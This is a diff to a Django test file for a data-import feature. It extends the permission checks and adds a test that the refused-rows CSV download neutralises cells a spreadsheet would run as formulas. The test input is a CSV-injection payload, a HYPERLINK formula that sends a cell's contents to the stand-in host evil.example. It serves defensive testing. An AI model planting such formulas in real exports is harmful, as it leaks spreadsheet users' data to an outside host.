@@ -46,6 +46,8 @@ PAGES = [
     ("imports:detail", "job", {"get"}),
     ("imports:mapping", "job", {"get", "post"}),
     ("imports:progress", "job", {"get"}),
+    ("imports:cancel", "job", {"post"}),
+    ("imports:delete", "job", {"post"}),
     ("imports:errors_csv", "job", {"get"}),
     ("imports:mappings", None, {"get"}),
     ("imports:mapping_delete", "mapping", {"post"}),
@@ -74,6 +76,7 @@ def test_other_roles_get_403(client, request, job, mapping, name, needs, methods
     for method in methods:
         assert getattr(client, method)(url).status_code == 403
     assert ImportMapping.objects.filter(pk=mapping.pk).exists()
+    assert ImportJob.objects.get(pk=job.pk).status == ImportJob.Status.PENDING
 
 
 @pytest.mark.parametrize(("name", "needs", "methods"), PAGES)
@@ -143,7 +146,7 @@ def test_upload_map_and_import(client, manager, jdoe, django_capture_on_commit_c
         response = client.post(reverse("imports:mapping", args=[job.pk]), mapping_post)
     assert response["Location"] == reverse("imports:detail", args=[job.pk])
     job.refresh_from_db()
-    assert job.status == ImportJob.Status.DONE
+    assert job.status == ImportJob.Status.PARTIAL
     assert (job.created_count, job.error_count) == (2, 1)
     saved = ImportMapping.objects.get(name="Office PBX")
     assert saved.columns == {k: v for k, v in mapping_post.items() if k not in {"date_format", "save_as"}}
@@ -306,6 +309,17 @@ def test_refused_rows_download_as_csv_for_any_manager(client, manager, job):
         ["2", "reason 0", 'C0,"a, b",=1+1'],
         ["3", "reason 1", 'C1,"a, b",=1+1'],
     ]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_refused_rows_csv_neutralises_cells_a_spreadsheet_would_run(client, manager, job, start):
+    """The row as it stood in the file, and the reason quoting it, start like formulas: each gets a quote."""
+    client.force_login(manager)
+    raw = f'{start}HYPERLINK("http://evil.example/?"&A1),2024-03-05'
+    ImportRowError.objects.create(job=job, line_number=2, message=f"{start}5: not valid", raw=raw)
+    response = client.get(reverse("imports:errors_csv", args=[job.pk]))
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    assert list(csv.reader(io.StringIO(text)))[1] == ["2", f"'{start}5: not valid", "'" + raw]
 
 
 def test_saved_mappings_page_and_delete(client, manager, mapping):
